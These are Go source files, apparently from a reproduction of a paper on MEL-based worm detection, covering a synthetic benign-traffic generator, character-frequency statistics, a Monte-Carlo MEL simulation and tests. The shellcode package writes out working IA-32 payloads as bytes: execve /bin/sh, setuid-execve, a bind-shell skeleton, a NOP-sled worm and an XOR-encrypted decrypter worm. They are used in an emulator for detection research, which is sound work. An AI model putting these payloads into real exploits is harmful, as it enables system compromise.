	freq, err := Frequencies(Concat(cases))
	if err != nil {
		t.Fatal(err)
	}
	if tm := TextMass(freq); tm < 0.9999 {
		t.Errorf("text mass %v, want 1 (pure text corpus)", tm)
	}
	// The paper measured IO mass 0.185 and prefix mass z = 0.16 on its
	// traffic; an English/HTML mix should land in the same bands.
	if io := IOMass(freq); io < 0.12 || io > 0.24 {
		t.Errorf("IO mass = %v, want in [0.12, 0.24] (paper: 0.185)", io)
	}
	if z := PrefixMass(freq); z < 0.10 || z > 0.22 {
		t.Errorf("prefix mass z = %v, want in [0.10, 0.22] (paper: 0.16)", z)
	}
}

func TestConcat(t *testing.T) {
	cases := []Case{
		{Kind: CaseHTML, Data: []byte("ab")},
		{Kind: CaseEmail, Data: []byte("cd")},
	}
	if got := string(Concat(cases)); got != "abcd" {
		t.Errorf("Concat = %q", got)
	}
	if got := Concat(nil); len(got) != 0 {
		t.Errorf("Concat(nil) = %v", got)
	}
}

func TestEmailBody(t *testing.T) {
	g := NewGenerator(9)
	body := g.EmailBody(800)
	if len(body) < 700 {
		t.Errorf("email body %d bytes", len(body))
	}
}

func TestURLStream(t *testing.T) {
	g := NewGenerator(12)
	s := g.URLStream(2000)
	if len(s) < 2000 {
		t.Errorf("URL stream %d bytes", len(s))
	}
	if !strings.Contains(s, "http://") || !strings.Contains(s, "?") {
		t.Errorf("URL stream shape wrong: %.120s", s)
	}
}

func TestDatasetIncludesURLKind(t *testing.T) {
	cases, err := Dataset(2, 20, 1000)
	if err != nil {
		t.Fatal(err)
	}
	kinds := map[CaseKind]int{}
	for _, c := range cases {
		kinds[c.Kind]++
	}
	if kinds[CaseURLStream] == 0 {
		t.Errorf("no URL-stream cases: %v", kinds)
	}
}

package corpus

import (
	"errors"
	"fmt"
	"strings"

	"repro/internal/stats"
)

// vocabulary is a weighted common-English word list. Word sampling (as
// opposed to independent letter sampling) keeps digraph structure
// realistic while the aggregate letter frequencies track English.
var vocabulary = []struct {
	word   string
	weight float64
}{
	{"the", 7.14}, {"of", 4.16}, {"and", 3.04}, {"to", 2.60}, {"in", 2.27},
	{"a", 2.06}, {"is", 1.13}, {"that", 1.08}, {"for", 0.88}, {"it", 0.77},
	{"as", 0.77}, {"was", 0.74}, {"with", 0.70}, {"be", 0.65}, {"by", 0.63},
	{"on", 0.62}, {"not", 0.61}, {"he", 0.55}, {"this", 0.51}, {"are", 0.50},
	{"or", 0.49}, {"his", 0.49}, {"from", 0.47}, {"at", 0.46}, {"which", 0.42},
	{"but", 0.38}, {"have", 0.37}, {"an", 0.37}, {"had", 0.35}, {"they", 0.33},
	{"you", 0.31}, {"were", 0.31}, {"their", 0.29}, {"one", 0.29}, {"all", 0.28},
	{"we", 0.28}, {"can", 0.22}, {"her", 0.22}, {"has", 0.22}, {"there", 0.22},
	{"been", 0.22}, {"if", 0.21}, {"more", 0.21}, {"when", 0.20}, {"will", 0.20},
	{"would", 0.20}, {"who", 0.20}, {"so", 0.19}, {"no", 0.19}, {"she", 0.19},
	{"other", 0.18}, {"its", 0.18}, {"may", 0.17}, {"these", 0.16}, {"what", 0.16},
	{"them", 0.16}, {"than", 0.16}, {"some", 0.16}, {"him", 0.16}, {"time", 0.16},
	{"into", 0.15}, {"only", 0.15}, {"do", 0.15}, {"such", 0.15}, {"my", 0.15},
	{"new", 0.15}, {"about", 0.15}, {"out", 0.14}, {"also", 0.14}, {"two", 0.14},
	{"any", 0.14}, {"up", 0.14}, {"first", 0.13}, {"could", 0.13}, {"our", 0.13},
	{"then", 0.13}, {"most", 0.12}, {"see", 0.12}, {"me", 0.12}, {"should", 0.12},
	{"over", 0.12}, {"very", 0.12}, {"your", 0.12}, {"between", 0.11}, {"where", 0.11},
	{"after", 0.11}, {"many", 0.11}, {"those", 0.11}, {"because", 0.10}, {"people", 0.10},
	{"through", 0.10}, {"how", 0.10}, {"each", 0.10}, {"same", 0.10}, {"under", 0.09},
	{"world", 0.09}, {"system", 0.09}, {"page", 0.09}, {"information", 0.08},
	{"network", 0.08}, {"university", 0.08}, {"research", 0.08}, {"computer", 0.08},
	{"science", 0.08}, {"department", 0.07}, {"email", 0.07}, {"home", 0.07},
	{"news", 0.07}, {"search", 0.07}, {"data", 0.07}, {"content", 0.06},
	{"server", 0.06}, {"online", 0.06}, {"service", 0.06}, {"security", 0.06},
	{"number", 0.06}, {"example", 0.06}, {"results", 0.06}, {"public", 0.05},
	{"protocol", 0.05}, {"message", 0.05}, {"internet", 0.05}, {"traffic", 0.05},
	{"malware", 0.04}, {"analysis", 0.04}, {"florida", 0.04}, {"gainesville", 0.03},
}

// Generator produces deterministic benign text traffic.
type Generator struct {
	rng     *stats.RNG
	weights []float64
}

// NewGenerator returns a generator with the given seed.
func NewGenerator(seed uint64) *Generator {
	weights := make([]float64, len(vocabulary))
	for i, v := range vocabulary {
		weights[i] = v.weight
	}
	return &Generator{rng: stats.NewRNG(seed), weights: weights}
}

func (g *Generator) word() string {
	return vocabulary[g.rng.WeightedChoice(g.weights)].word
}

// Sentence emits one English-like sentence of n words with capitalized
// first word and terminal punctuation.
func (g *Generator) Sentence(n int) string {
	if n < 1 {
		n = 1
	}
	var sb strings.Builder
	for i := 0; i < n; i++ {
		w := g.word()
		if i == 0 {
			w = strings.ToUpper(w[:1]) + w[1:]
		}
		sb.WriteString(w)
		if i < n-1 {
			if g.rng.Intn(12) == 0 {
				sb.WriteString(",")
			}
			sb.WriteString(" ")
		}
	}
	switch g.rng.Intn(10) {
	case 0:
		sb.WriteString("?")
	case 1:
		sb.WriteString("!")
	default:
		sb.WriteString(".")
	}
	return sb.String()
}

// Paragraph emits a paragraph of roughly targetLen bytes.
func (g *Generator) Paragraph(targetLen int) string {
	var sb strings.Builder
	for sb.Len() < targetLen {
		sb.WriteString(g.Sentence(4 + g.rng.Intn(14)))
		sb.WriteString(" ")
	}
	return strings.TrimRight(sb.String(), " ")
}

// HTMLPage emits an HTML document of roughly targetLen bytes, the shape
// of the paper's web traffic after transport headers are stripped.
func (g *Generator) HTMLPage(targetLen int) string {
	var sb strings.Builder
	title := g.Sentence(3 + g.rng.Intn(3))
	fmt.Fprintf(&sb, "<html><head><title>%s</title></head><body>", title)
	for sb.Len() < targetLen-100 {
		switch g.rng.Intn(5) {
		case 0:
			fmt.Fprintf(&sb, "<h2>%s</h2>", g.Sentence(2+g.rng.Intn(4)))
		case 1:
			fmt.Fprintf(&sb, "<a href=\"/%s/%s.html\">%s</a> ",
				g.word(), g.word(), g.Sentence(1+g.rng.Intn(3)))
		default:
			fmt.Fprintf(&sb, "<p>%s</p>", g.Paragraph(150+g.rng.Intn(250)))
		}
	}
	sb.WriteString("</body></html>")
	return sb.String()
}

// HTTPRequest emits a GET request with realistic URL and header text.
func (g *Generator) HTTPRequest() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "GET /%s/%s?%s=%s&%s=%d HTTP/1.1\r\n",
		g.word(), g.word(), g.word(), g.word(), g.word(), g.rng.Intn(1000))
	fmt.Fprintf(&sb, "Host: www.%s.edu\r\n", g.word())
	sb.WriteString("User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n")
	fmt.Fprintf(&sb, "Accept: text/html,text/plain\r\nReferer: http://www.%s.org/%s\r\n",
		g.word(), g.word())
	sb.WriteString("Connection: keep-alive\r\n\r\n")
	return sb.String()
}

// EmailBody emits a plain-text email-like message.
func (g *Generator) EmailBody(targetLen int) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "Subject: %s\r\n\r\n", g.Sentence(4+g.rng.Intn(4)))
	name := g.word()
	fmt.Fprintf(&sb, "Dear %s,\r\n\r\n", strings.ToUpper(name[:1])+name[1:])
	for sb.Len() < targetLen-60 {
		sb.WriteString(g.Paragraph(200 + g.rng.Intn(200)))
		sb.WriteString("\r\n\r\n")
	}
	sb.WriteString("Regards,\r\nThe department\r\n")
	return sb.String()
}

// URLStream emits a newline-separated list of URLs with paths and query
// strings — the "URL portion of a HTTP request" channel the paper's
// introduction singles out.
func (g *Generator) URLStream(targetLen int) string {
	var sb strings.Builder
	for sb.Len() < targetLen {
		fmt.Fprintf(&sb, "http://www.%s.edu/%s/%s/%s.html?%s=%s&%s=%d ",
			g.word(), g.word(), g.word(), g.word(),
			g.word(), g.word(), g.word(), g.rng.Intn(100))
		// Anchor text keeps the stream's letter statistics English-like,
		// as real link lists (bookmarks, sitemaps, referer logs) do.
		sb.WriteString(g.Sentence(3 + g.rng.Intn(5)))
		sb.WriteString("\r\n")
	}
	return sb.String()
}

// CaseKind labels dataset cases by traffic shape.
type CaseKind int

// Traffic shapes in the benign dataset.
const (
	CaseHTML CaseKind = iota + 1
	CaseHTTPRequests
	CaseEmail
	CaseURLStream
)

// Case is one benign test input.
type Case struct {
	Kind CaseKind
	Data []byte
}

// Dataset builds the Section 5.1 evaluation corpus shape: count cases of
// about caseLen text bytes each (the paper used 100 cases of ~4K chars
// from ~0.5 MB of traffic). The mix is mostly HTML with request streams
// and email bodies interleaved. All output is pure text.
func Dataset(seed uint64, count, caseLen int) ([]Case, error) {
	if count <= 0 || caseLen <= 0 {
		return nil, errors.New("corpus: count and caseLen must be positive")
	}
	g := NewGenerator(seed)
	cases := make([]Case, 0, count)
	for i := 0; i < count; i++ {
		var kind CaseKind
		var data string
		switch {
		case i%10 == 3 || i%10 == 8:
			kind = CaseHTTPRequests
			var sb strings.Builder
			for sb.Len() < caseLen {
				sb.WriteString(g.HTTPRequest())
			}
			data = sb.String()
		case i%10 == 4:
			kind = CaseEmail
			data = g.EmailBody(caseLen)
		case i%10 == 9:
			kind = CaseURLStream
			data = g.URLStream(caseLen)
		default:
			kind = CaseHTML
			data = g.HTMLPage(caseLen)
		}
		// Trim or pad to the exact case length with prose.
		for len(data) < caseLen {
			data += " " + g.Sentence(8)
		}
		b := []byte(data[:caseLen])
		b = sanitizeText(b)
		cases = append(cases, Case{Kind: kind, Data: b})
	}
	return cases, nil
}

// sanitizeText replaces any non-text byte (CR/LF from the header idiom)
// with a space so cases are strictly keyboard-enterable, matching the
// paper's text-only channel model.
func sanitizeText(b []byte) []byte {
	for i, v := range b {
		if v < 0x20 || v > 0x7E {
			b[i] = ' '
		}
	}
	return b
}

// Concat joins all case payloads, for whole-corpus statistics.
func Concat(cases []Case) []byte {
	var total int
	for _, c := range cases {
		total += len(c.Data)
	}
	out := make([]byte, 0, total)
	for _, c := range cases {
		out = append(out, c.Data...)
	}
	return out
}

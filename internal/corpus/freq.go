// Package corpus generates the benign text datasets of Section 5.1 —
// synthetic web traffic with English-like character statistics — and the
// character-frequency machinery of Section 5.2. The paper's own method
// needs only the input length and the character frequency table, so a
// generator that matches those statistics exercises exactly the same
// code paths as the authors' 0.5 MB Ethereal capture.
package corpus

import (
	"errors"
)

// Frequencies computes the empirical character distribution of data as a
// probability per byte value.
func Frequencies(data []byte) ([256]float64, error) {
	var freq [256]float64
	if len(data) == 0 {
		return freq, errors.New("corpus: empty data")
	}
	for _, b := range data {
		freq[b]++
	}
	n := float64(len(data))
	for i := range freq {
		freq[i] /= n
	}
	return freq, nil
}

// Mass sums the probability of the given byte values under freq.
func Mass(freq [256]float64, bytes []byte) float64 {
	var sum float64
	for _, b := range bytes {
		sum += freq[b]
	}
	return sum
}

// TextMass returns the probability that a byte is keyboard-enterable.
func TextMass(freq [256]float64) float64 {
	var sum float64
	for b := 0x20; b <= 0x7E; b++ {
		sum += freq[b]
	}
	return sum
}

// IOMass returns the probability mass of the privileged I/O opcode
// characters 'l', 'm', 'n', 'o' — the first component of the paper's p.
func IOMass(freq [256]float64) float64 {
	return freq['l'] + freq['m'] + freq['n'] + freq['o']
}

// PrefixMass returns the probability mass of the eight text prefix
// characters — the paper's z (≈ 0.16 for their traffic).
func PrefixMass(freq [256]float64) float64 {
	return freq[0x26] + freq[0x2E] + freq[0x36] + freq[0x3E] +
		freq[0x64] + freq[0x65] + freq[0x66] + freq[0x67]
}

// WrongSegMass returns the probability mass of the segment-override
// characters the detector treats as faulting (CS/ES/FS/GS: '.', '&',
// 'd', 'e').
func WrongSegMass(freq [256]float64) float64 {
	return freq[0x2E] + freq[0x26] + freq[0x64] + freq[0x65]
}

// EnglishFreq returns a reference character distribution for English
// prose carried over HTTP (letters weighted by standard English letter
// frequencies, lower- and upper-case, with space, digits, punctuation and
// light markup). It is the pre-set table Section 5.2 allows using when no
// sample is available.
func EnglishFreq() [256]float64 {
	var freq [256]float64
	// Standard English letter frequencies (fraction of letters).
	letters := map[byte]float64{
		'a': 8.167, 'b': 1.492, 'c': 2.782, 'd': 4.253, 'e': 12.702,
		'f': 2.228, 'g': 2.015, 'h': 6.094, 'i': 6.966, 'j': 0.153,
		'k': 0.772, 'l': 4.025, 'm': 2.406, 'n': 6.749, 'o': 7.507,
		'p': 1.929, 'q': 0.095, 'r': 5.987, 's': 6.327, 't': 9.056,
		'u': 2.758, 'v': 0.978, 'w': 2.360, 'x': 0.150, 'y': 1.974,
		'z': 0.074,
	}
	// Budget: 74% lower-case letters, 4% upper-case, 15% space, 3%
	// digits, 4% punctuation/markup.
	var letterTotal float64
	for _, v := range letters {
		letterTotal += v
	}
	for b, v := range letters {
		freq[b] = 0.74 * v / letterTotal
		freq[b-('a'-'A')] += 0.04 * v / letterTotal
	}
	freq[' '] = 0.15
	for d := byte('0'); d <= '9'; d++ {
		freq[d] = 0.003
	}
	punct := []byte{'.', ',', ';', ':', '\'', '"', '!', '?', '-', '(', ')',
		'/', '<', '>', '=', '&', '%', '+', '_', '#', '@', '~', '*', '[', ']'}
	for _, p := range punct {
		freq[p] += 0.04 / float64(len(punct))
	}
	// Normalize exactly.
	var total float64
	for _, v := range freq {
		total += v
	}
	for i := range freq {
		freq[i] /= total
	}
	return freq
}

// Normalize scales freq to sum to 1; it fails on a zero table.
func Normalize(freq [256]float64) ([256]float64, error) {
	var total float64
	for _, v := range freq {
		if v < 0 {
			return freq, errors.New("corpus: negative frequency")
		}
		total += v
	}
	if total == 0 {
		return freq, errors.New("corpus: zero frequency table")
	}
	for i := range freq {
		freq[i] /= total
	}
	return freq, nil
}

// Package montecarlo verifies the MEL model by simulation, exactly as
// Section 3.3 describes: toss a coin with head-probability p (heads are
// invalid instructions) n times, record the maximum run of tails (the
// MEL), repeat for thousands of rounds, and compare the resulting
// empirical PMF against the closed form.
package montecarlo

import (
	"errors"

	"repro/internal/stats"
)

// Config describes one simulation.
type Config struct {
	// N is the number of instructions (coin tosses) per round.
	N int
	// P is the invalidity (head) probability.
	P float64
	// Rounds is the number of independent rounds.
	Rounds int
	// Seed makes the run reproducible.
	Seed uint64
}

// Validate checks the configuration.
func (c Config) Validate() error {
	if c.N <= 0 {
		return errors.New("montecarlo: n must be positive")
	}
	if c.P <= 0 || c.P >= 1 {
		return errors.New("montecarlo: p must be in (0, 1)")
	}
	if c.Rounds <= 0 {
		return errors.New("montecarlo: rounds must be positive")
	}
	return nil
}

// Run simulates the MEL distribution and returns the histogram of
// per-round MEL values.
func Run(cfg Config) (*stats.IntHistogram, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	rng := stats.NewRNG(cfg.Seed)
	hist := stats.NewIntHistogram()
	for r := 0; r < cfg.Rounds; r++ {
		hist.Add(oneRound(rng, cfg.N, cfg.P))
	}
	return hist, nil
}

// oneRound tosses the coin n times and returns the MEL under the
// paper's counting convention. Section 3.1's worked example counts the
// terminating invalid instruction in the sequence length (MEL = 5 for
// I_v I_v I_v I_v I_inv), i.e. each head-terminated run contributes
// (tails + 1) and the trailing unterminated run contributes its bare
// tail count — equivalently the "maximum inter-head distance" of the
// paper's Monte-Carlo description. This convention is what the closed
// form (1-(1-p)^x)(1-p(1-p)^x)^n actually models; measuring bare tail
// runs shifts the whole PMF left by one.
func oneRound(rng *stats.RNG, n int, p float64) int {
	best, cur := 0, 0
	for i := 0; i < n; i++ {
		if rng.Bernoulli(p) { // head = invalid instruction
			if cur+1 > best {
				best = cur + 1 // run includes its terminating head
			}
			cur = 0
		} else {
			cur++
		}
	}
	if cur > best {
		best = cur
	}
	return best
}

// EmpiricalPMF runs the simulation and returns the PMF as a dense slice
// indexed by MEL value.
func EmpiricalPMF(cfg Config) ([]float64, error) {
	hist, err := Run(cfg)
	if err != nil {
		return nil, err
	}
	return hist.PMF()
}

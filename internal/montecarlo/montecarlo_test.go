package montecarlo

import (
	"math"
	"testing"

	"repro/internal/melmodel"
)

func TestConfigValidation(t *testing.T) {
	bad := []Config{
		{N: 0, P: 0.5, Rounds: 10},
		{N: 10, P: 0, Rounds: 10},
		{N: 10, P: 1, Rounds: 10},
		{N: 10, P: 0.5, Rounds: 0},
	}
	for _, cfg := range bad {
		if err := cfg.Validate(); err == nil {
			t.Errorf("config %+v should be invalid", cfg)
		}
		if _, err := Run(cfg); err == nil {
			t.Errorf("Run(%+v) should fail", cfg)
		}
	}
	good := Config{N: 100, P: 0.2, Rounds: 10, Seed: 1}
	if err := good.Validate(); err != nil {
		t.Errorf("valid config rejected: %v", err)
	}
}

func TestRunDeterministic(t *testing.T) {
	cfg := Config{N: 500, P: 0.2, Rounds: 200, Seed: 9}
	a, err := Run(cfg)
	if err != nil {
		t.Fatal(err)
	}
	b, err := Run(cfg)
	if err != nil {
		t.Fatal(err)
	}
	maxA, _ := a.Max()
	maxB, _ := b.Max()
	meanA, _ := a.Mean()
	meanB, _ := b.Mean()
	if maxA != maxB || meanA != meanB {
		t.Error("same seed produced different histograms")
	}
}

func TestExtremeP(t *testing.T) {
	// p near 1: almost every toss is a head, MEL near 0.
	hist, err := Run(Config{N: 200, P: 0.99, Rounds: 100, Seed: 2})
	if err != nil {
		t.Fatal(err)
	}
	m, _ := hist.Mean()
	// Under the paper's convention every head-terminated run counts at
	// least 1, so the floor is ~1-2 even when almost every toss is a head.
	if m > 3 {
		t.Errorf("mean MEL %v at p=0.99, want <= 3", m)
	}
	// p near 0: MEL near n.
	hist, err = Run(Config{N: 200, P: 0.001, Rounds: 100, Seed: 3})
	if err != nil {
		t.Fatal(err)
	}
	m, _ = hist.Mean()
	if m < 150 {
		t.Errorf("mean MEL %v at p=0.001, want near 200", m)
	}
}

func TestMELBounds(t *testing.T) {
	hist, err := Run(Config{N: 300, P: 0.3, Rounds: 500, Seed: 4})
	if err != nil {
		t.Fatal(err)
	}
	minV, _ := hist.Min()
	maxV, _ := hist.Max()
	if minV < 0 || maxV > 300 {
		t.Errorf("MEL out of [0, n]: min=%d max=%d", minV, maxV)
	}
}

// TestFigure1Agreement is the core Figure 1 result: the Monte-Carlo PMF
// matches the closed-form model. Agreement is checked as total variation
// distance at every (n, p) the figure plots.
func TestFigure1Agreement(t *testing.T) {
	cases := []struct {
		n int
		p float64
	}{
		{1000, 0.175}, {5000, 0.175}, {10000, 0.175}, // left panel
		{1500, 0.125}, {1500, 0.175}, {1500, 0.300}, // right panel
	}
	for _, c := range cases {
		pmfEmp, err := EmpiricalPMF(Config{N: c.n, P: c.p, Rounds: 4000, Seed: 7})
		if err != nil {
			t.Fatal(err)
		}
		var tv float64
		limit := len(pmfEmp) + 50
		for x := 0; x < limit; x++ {
			model, err := melmodel.PMF(x, c.n, c.p)
			if err != nil {
				t.Fatal(err)
			}
			emp := 0.0
			if x < len(pmfEmp) {
				emp = pmfEmp[x]
			}
			tv += math.Abs(model - emp)
		}
		tv /= 2
		if tv > 0.06 {
			t.Errorf("n=%d p=%v: total variation distance %v; Figure 1 shows a near-perfect match",
				c.n, c.p, tv)
		}
	}
}

// TestFigure1ModeShift verifies the qualitative Figure 1 annotations:
// the distribution shifts right as n grows and left as p grows.
func TestFigure1ModeShift(t *testing.T) {
	meanAt := func(n int, p float64) float64 {
		hist, err := Run(Config{N: n, P: p, Rounds: 2000, Seed: 11})
		if err != nil {
			t.Fatal(err)
		}
		m, _ := hist.Mean()
		return m
	}
	if !(meanAt(1000, 0.175) < meanAt(5000, 0.175) && meanAt(5000, 0.175) < meanAt(10000, 0.175)) {
		t.Error("MEL should grow with n")
	}
	if !(meanAt(1500, 0.125) > meanAt(1500, 0.175) && meanAt(1500, 0.175) > meanAt(1500, 0.300)) {
		t.Error("MEL should shrink with p")
	}
}

func TestEmpiricalPMFSumsToOne(t *testing.T) {
	pmf, err := EmpiricalPMF(Config{N: 500, P: 0.2, Rounds: 1000, Seed: 5})
	if err != nil {
		t.Fatal(err)
	}
	var sum float64
	for _, v := range pmf {
		sum += v
	}
	if math.Abs(sum-1) > 1e-9 {
		t.Errorf("empirical PMF sums to %v", sum)
	}
	if _, err := EmpiricalPMF(Config{}); err == nil {
		t.Error("invalid config should fail")
	}
}

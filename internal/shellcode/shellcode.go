// Package shellcode builds the binary attack-payload corpus the
// experiments need: classic Linux IA-32 execve shellcode in several
// variants (substituting for the Aleph One exploit payloads of Section
// 5.1), plus the two binary-worm shapes of Section 4.1 — the sled worm
// that MEL detectors were designed for and the register-spring worm that
// obsoleted them. Every payload is executable by internal/emu.
package shellcode

import (
	"fmt"

	"repro/internal/stats"
)

// Shellcode is one binary payload with its expected behaviour.
type Shellcode struct {
	// Name is a short identifier (unique within the corpus).
	Name string
	// Description says what the payload does.
	Description string
	// Code is the raw machine code.
	Code []byte
	// SpawnsShell is true when correct execution ends in execve("/bin/sh").
	SpawnsShell bool
}

// Execve returns the classic 24-byte /bin/sh execve shellcode
// (xor eax,eax; push eax; push "//sh"; push "/bin"; mov ebx,esp;
// push eax; push ebx; mov ecx,esp; cdq; mov al,11; int 0x80).
func Execve() Shellcode {
	return Shellcode{
		Name:        "execve",
		Description: "classic /bin//sh execve",
		SpawnsShell: true,
		Code: []byte{
			0x31, 0xC0, // xor eax,eax
			0x50,                     // push eax
			0x68, '/', '/', 's', 'h', // push "//sh"
			0x68, '/', 'b', 'i', 'n', // push "/bin"
			0x89, 0xE3, // mov ebx,esp
			0x50,       // push eax
			0x53,       // push ebx
			0x89, 0xE1, // mov ecx,esp
			0x99,       // cdq
			0xB0, 0x0B, // mov al,11
			0xCD, 0x80, // int 0x80
		},
	}
}

// SetuidExecve returns a setuid(0)-then-execve payload, a common
// privilege-restoring variant.
func SetuidExecve() Shellcode {
	body := Execve().Code
	code := []byte{
		0x31, 0xDB, // xor ebx,ebx
		0x31, 0xC0, // xor eax,eax
		0xB0, 0x17, // mov al,23 (setuid)
		0xCD, 0x80, // int 0x80
	}
	return Shellcode{
		Name:        "setuid-execve",
		Description: "setuid(0) then execve /bin//sh",
		SpawnsShell: true,
		Code:        append(code, body...),
	}
}

// Exit returns a minimal exit(0) payload (a benign-behaving injection,
// useful as a negative control for the emulator).
func Exit() Shellcode {
	return Shellcode{
		Name:        "exit",
		Description: "exit(0)",
		Code: []byte{
			0x31, 0xDB, // xor ebx,ebx
			0x31, 0xC0, // xor eax,eax
			0x40,       // inc eax (eax=1, sys_exit)
			0xCD, 0x80, // int 0x80
		},
	}
}

// BindShell returns a socket-setup skeleton followed by an execve: the
// socketcall invocations are emulated as succeeding, after which the
// shell is spawned — structurally a port-binding backdoor.
func BindShell() Shellcode {
	code := []byte{
		// socketcall(SYS_SOCKET, args) — args built crudely on the stack.
		0x31, 0xC0, // xor eax,eax
		0x50,       // push eax (protocol 0)
		0x6A, 0x01, // push 1 (SOCK_STREAM)
		0x6A, 0x02, // push 2 (AF_INET)
		0x89, 0xE1, // mov ecx,esp
		0x31, 0xDB, // xor ebx,ebx
		0x43,       // inc ebx (SYS_SOCKET=1)
		0xB0, 0x66, // mov al,102 (socketcall)
		0xCD, 0x80, // int 0x80
		// dup2 loop stand-in: three dup2 calls.
		0x31, 0xC9, // xor ecx,ecx
		0xB0, 0x3F, // mov al,63 (dup2)
		0xCD, 0x80,
		0xB0, 0x3F,
		0x41, // inc ecx
		0xCD, 0x80,
		0xB0, 0x3F,
		0x41,
		0xCD, 0x80,
	}
	return Shellcode{
		Name:        "bind-shell",
		Description: "socket + dup2 skeleton, then execve /bin//sh",
		SpawnsShell: true,
		Code:        append(code, Execve().Code...),
	}
}

// WriteThenExit returns a payload that writes a marker to stdout and
// exits — the "benign-looking" injected code case.
func WriteThenExit() Shellcode {
	return Shellcode{
		Name:        "write-exit",
		Description: "write(1, msg) then exit",
		Code: []byte{
			0x31, 0xC0, // xor eax,eax
			0x50,                     // push eax
			0x68, 'P', 'W', 'N', '!', // push "PWN!"
			0x89, 0xE1, // mov ecx,esp
			0x31, 0xDB, // xor ebx,ebx
			0x43,       // inc ebx (fd 1)
			0x31, 0xD2, // xor edx,edx
			0xB2, 0x04, // mov dl,4
			0xB0, 0x04, // mov al,4 (write)
			0xCD, 0x80,
			0x31, 0xC0, // xor eax,eax
			0x40,       // inc eax
			0xCD, 0x80, // exit
		},
	}
}

// junkOps are harmless single instructions used to diversify variants the
// way re-assembled exploits differ: register moves, flag ops, nops.
var junkOps = [][]byte{
	{0x90},             // nop
	{0x89, 0xC0},       // mov eax,eax
	{0x89, 0xDB},       // mov ebx,ebx
	{0x87, 0xC9},       // xchg ecx,ecx
	{0xF8},             // clc
	{0xF9},             // stc
	{0xFC},             // cld
	{0x40, 0x48},       // inc eax; dec eax
	{0x43, 0x4B},       // inc ebx; dec ebx
	{0x51, 0x59},       // push ecx; pop ecx
	{0x50, 0x58},       // push eax; pop eax
	{0x31, 0xD2},       // xor edx,edx
	{0x29, 0xD2},       // sub edx,edx
	{0x21, 0xC0},       // and eax,eax
	{0x09, 0xC0},       // or eax,eax
	{0x83, 0xC1, 0x00}, // add ecx,0
}

// Variants returns n distinct shell-spawning payloads derived from the
// base execve shellcode by interleaving junk instructions — the
// stand-in for the "multiple binary buffer overflow programs" the paper
// converted to text (Section 5.1). Deterministic in seed.
func Variants(seed uint64, n int) []Shellcode {
	rng := stats.NewRNG(seed)
	out := make([]Shellcode, 0, n)
	base := [][]byte{Execve().Code, SetuidExecve().Code, BindShell().Code}
	for i := 0; i < n; i++ {
		body := base[i%len(base)]
		var code []byte
		// A random junk prologue (0-4 ops) that must not disturb the
		// payload: junk ops only touch registers the prologue of every
		// base payload overwrites (eax/ebx/ecx/edx are all re-zeroed).
		for j, k := 0, rng.Intn(5); j < k; j++ {
			code = append(code, junkOps[rng.Intn(len(junkOps))]...)
		}
		code = append(code, body...)
		out = append(out, Shellcode{
			Name:        fmt.Sprintf("variant-%03d", i),
			Description: "diversified execve payload",
			SpawnsShell: true,
			Code:        code,
		})
	}
	return out
}

// Corpus returns the full named corpus (excluding Variants).
func Corpus() []Shellcode {
	return []Shellcode{Execve(), SetuidExecve(), Exit(), BindShell(), WriteThenExit()}
}

// SledWorm returns a Section 4.1 "old-style" binary worm: a long NOP
// sled followed by the execve payload. Its sled gives it a very large
// MEL, which is what APE and STRIDE detected.
func SledWorm(sledLen int) Shellcode {
	if sledLen < 0 {
		sledLen = 0
	}
	code := make([]byte, 0, sledLen+32)
	for i := 0; i < sledLen; i++ {
		code = append(code, 0x90)
	}
	code = append(code, Execve().Code...)
	return Shellcode{
		Name:        fmt.Sprintf("sled-worm-%d", sledLen),
		Description: "NOP sled + execve (pre-2005 worm shape)",
		SpawnsShell: true,
		Code:        code,
	}
}

// RegisterSpringWorm returns a Section 4.1 "modern" binary worm: no
// sled, a tiny XOR decrypter that uses a static address (the register-
// spring technique exposes static addresses), and an encrypted payload.
// Its MEL is tiny — the reason MEL-based binary worm detection is dead.
//
// payloadAddr must be the absolute address where the worm's first byte
// will live at runtime; the decrypter hard-codes the encrypted region's
// address from it.
func RegisterSpringWorm(payloadAddr uint32, key byte) Shellcode {
	if key == 0 {
		key = 0x7F
	}
	payload := Execve().Code
	enc := make([]byte, len(payload))
	for i, b := range payload {
		enc[i] = b ^ key
	}
	// Decrypter: mov esi, addr; mov ecx, len; l: xor byte [esi], key;
	// inc esi; loop l; <encrypted payload>.
	const decrypterLen = 5 + 5 + 3 + 1 + 2
	encAddr := payloadAddr + decrypterLen
	code := []byte{
		0xBE, byte(encAddr), byte(encAddr >> 8), byte(encAddr >> 16), byte(encAddr >> 24), // mov esi, encAddr
		0xB9, byte(len(enc)), byte(len(enc) >> 8), 0x00, 0x00, // mov ecx, len
		0x80, 0x36, key, // xor byte [esi], key
		0x46,       // inc esi
		0xE2, 0xFA, // loop -6
	}
	code = append(code, enc...)
	return Shellcode{
		Name:        "register-spring-worm",
		Description: "tiny XOR decrypter + encrypted execve, no sled",
		SpawnsShell: true,
		Code:        code,
	}
}

// MaxTextRun returns the length in bytes of the longest run of text bytes
// in code — a quick structural metric used to show binary payloads are
// not text.
func MaxTextRun(code []byte) int {
	best, cur := 0, 0
	for _, b := range code {
		if b >= 0x20 && b <= 0x7E {
			cur++
			if cur > best {
				best = cur
			}
		} else {
			cur = 0
		}
	}
	return best
}

// IsText reports whether the whole payload is keyboard-enterable.
func IsText(code []byte) bool {
	for _, b := range code {
		if b < 0x20 || b > 0x7E {
			return false
		}
	}
	return true
}

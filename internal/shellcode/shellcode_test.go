package shellcode

import (
	"testing"

	"repro/internal/emu"
)

// runPayload executes a payload at a fixed load address and returns the
// outcome.
func runPayload(t *testing.T, code []byte) emu.Outcome {
	t.Helper()
	mem, err := emu.NewMemory(emu.DefaultBase, 1<<16)
	if err != nil {
		t.Fatal(err)
	}
	c, err := emu.New(mem)
	if err != nil {
		t.Fatal(err)
	}
	start := mem.Base() + 0x1000
	if err := mem.Load(start, code); err != nil {
		t.Fatal(err)
	}
	c.EIP = start
	return c.Run(100000)
}

func TestExecveSpawnsShell(t *testing.T) {
	sc := Execve()
	out := runPayload(t, sc.Code)
	if !out.ShellSpawned() {
		t.Fatalf("execve payload did not spawn shell: %v %+v", out.Kind, out.Fault)
	}
	if len(sc.Code) != 24 {
		t.Errorf("classic execve should be 24 bytes, got %d", len(sc.Code))
	}
}

func TestCorpusBehaviour(t *testing.T) {
